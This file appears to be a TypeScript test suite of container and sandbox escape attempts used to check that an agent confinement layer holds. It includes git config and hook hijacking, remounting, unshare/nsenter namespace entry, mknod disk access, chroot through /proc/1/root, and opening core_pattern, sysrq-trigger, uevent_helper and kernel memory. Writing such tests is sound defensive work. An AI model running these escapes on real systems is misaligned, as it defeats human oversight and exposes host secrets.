import type { Attempt } from '../attempt.ts'
import { CONFINED } from '../attempt.ts'

/** The confinement itself is attacked, and the machine beneath it. */
export const system: readonly Attempt[] = [
  {
    name: "have the conductor's git run a program, by what lies in its own workspace",
    promised: { sandbox: 'held', namespaces: 'held', none: 'held' },
    works: 'varies',
    act: ({ fs, place }) => {
      const program = `${place.own}/by-git`
      fs.writeFileSync(program, `#!/bin/sh\n: > '${place.project}/by-git-of-conductor'\ncat\n`, {
        mode: 0o755,
      })
      const settings = `[core]\n\tfsmonitor = ${program}\n\thooksPath = ${place.own}/hooks\n\tworktree = ${place.project}\n[filter "x"]\n\tclean = ${program}\n\tsmudge = ${program}\n[extensions]\n\tworktreeConfig = true\n`
      const gitDir = fs.readFileSync(`${place.own}/.git`, 'utf8').replace('gitdir: ', '').trim()
      fs.mkdirSync(`${place.own}/hooks`)
      for (const hook of ['reference-transaction', 'post-index-change', 'post-checkout'])
        fs.copyFileSync(program, `${place.own}/hooks/${hook}`)
      fs.writeFileSync(`${place.own}/.gitattributes`, '* filter=x\n')
      fs.writeFileSync(`${place.own}/new.txt`, 'new\n')
      fs.writeFileSync(`${gitDir}/config.worktree`, settings)
      fs.mkdirSync(`${place.own}/common/info`, { recursive: true })
      fs.writeFileSync(`${place.own}/common/config`, settings)
    },
    leaves: ({ project }) => `${project}/by-git-of-conductor`,
  },
  {
    name: 'mount over what it may not write',
    promised: CONFINED,
    works: 'for root',
    act: ({ sh, place }) =>
      sh(`mount -n -t tmpfs tmpfs '${place.project}' && echo SECRET; umount '${place.project}'`).includes(
        'SECRET',
      ),
  },
  {
    name: 'make what is read-only writable by mounting it again',
    promised: CONFINED,
    works: 'varies',
    act: ({ sh, append, place }) => {
      sh(`mount -n -o remount,bind,rw / ; mount -n -o remount,rw '${place.project}'`)
      append(`${place.project}/remounted.txt`)
    },
    leaves: ({ project }) => `${project}/remounted.txt`,
  },
  {
    name: 'take away what hides a folder',
    promised: CONFINED,
    works: 'varies',
    act: ({ sh, reads, path, place }) => {
      for (const folder of [place.run, path.dirname(place.run), place.state, path.dirname(place.own)]) {
        sh(`umount '${folder}' || umount -l '${folder}'`)
      }
      return reads(`${place.run}/journal.jsonl`)
    },
  },
  {
    name: 'become root of a namespace of its own and take away what hides a folder',
    promised: CONFINED,
    works: 'varies',
    act: ({ sh, path, place }) =>
      sh(
        `unshare --user --map-root-user --mount --pid --fork sh -c 'umount -l "${path.dirname(place.run)}" "${place.state}"; mount -o remount,bind,rw /; cat "${place.run}/journal.jsonl"; : > "${place.project}/by-namespace"' 2>/dev/null`,
      ).includes('SECRET'),
  },
  {
    name: 'enter the namespaces of another process',
    promised: CONFINED,
    works: 'for root',
    act: ({ sh, place }) =>
      sh(
        `nsenter --target ${place.victim} --mount --pid cat '${place.state}/key'; nsenter --target 1 --mount cat '${place.state}/key'`,
      ).includes('SECRET'),
  },
  {
    name: 'make a device and read a disk with it',
    promised: CONFINED,
    works: 'varies',
    act: ({ fs, sh, place }) => {
      const [, first = ''] =
        /^ *(\d+ +\d+) .*$/m.exec(fs.readFileSync('/proc/partitions', 'utf8').replace(/^major.*$/m, '')) ?? []
      const disk = `${place.own}/disk`
      sh(`mknod '${disk}' b ${first}`)
      try {
        fs.closeSync(fs.openSync(disk, 'r'))
        return 'opened SECRET'
      } finally {
        fs.rmSync(disk, { force: true })
      }
    },
  },
  {
    name: 'open a disk that is there',
    promised: CONFINED,
    works: 'varies',
    act: ({ fs }) =>
      fs.readdirSync('/dev').some((name) => {
        try {
          if (!fs.statSync(`/dev/${name}`).isBlockDevice()) return false
          fs.closeSync(fs.openSync(`/dev/${name}`, 'r'))
          return true
        } catch {
          return false
        }
      }) && 'opened SECRET',
  },
  {
    name: 'leave its root by chroot',
    promised: CONFINED,
    works: 'varies',
    act: ({ sh, place }) =>
      sh(
        `mkdir -p '${place.own}/jail' && chroot '${place.own}/jail' /bin/true; chroot /proc/1/root /bin/cat '${place.state}/key'`,
      ).includes('SECRET'),
  },
  {
    name: 'change settings of the system',
    promised: CONFINED,
    works: 'for root',
    act: ({ fs }) => {
      fs.closeSync(fs.openSync('/proc/sys/kernel/core_pattern', 'r+'))
      return 'opened SECRET'
    },
  },
  {
    name: 'press the keys that the system listens to (sysrq)',
    promised: CONFINED,
    works: 'varies',
    act: ({ fs }) => {
      if (!fs.statSync('/proc/sysrq-trigger').isFile()) return false
      fs.closeSync(fs.openSync('/proc/sysrq-trigger', 'a'))
      return 'opened SECRET'
    },
  },
  {
    name: 'make a control group of its own',
    promised: CONFINED,
    works: 'varies',
    act: ({ fs, place }) => {
      const folder = `/sys/fs/cgroup/${place.mark}`
      fs.mkdirSync(folder)
      fs.rmdirSync(folder)
      return 'made SECRET'
    },
  },
  {
    name: 'set off events of devices, where a program of the host answers',
    promised: CONFINED,
    works: 'varies',
    act: ({ fs }) => {
      fs.closeSync(fs.openSync('/sys/kernel/uevent_helper', 'r+'))
      return 'opened SECRET'
    },
  },
  {
    name: 'read the memory of the kernel, or its messages',
    promised: CONFINED,
    works: 'varies',
    act: ({ fs }) =>
      ['/dev/mem', '/dev/kmsg', '/proc/kcore'].some((file) => {
        try {
          const handle = fs.openSync(file, 'r')
          fs.closeSync(handle)
          return true
        } catch {
          return false
        }
      }) && 'opened SECRET',
  },
]
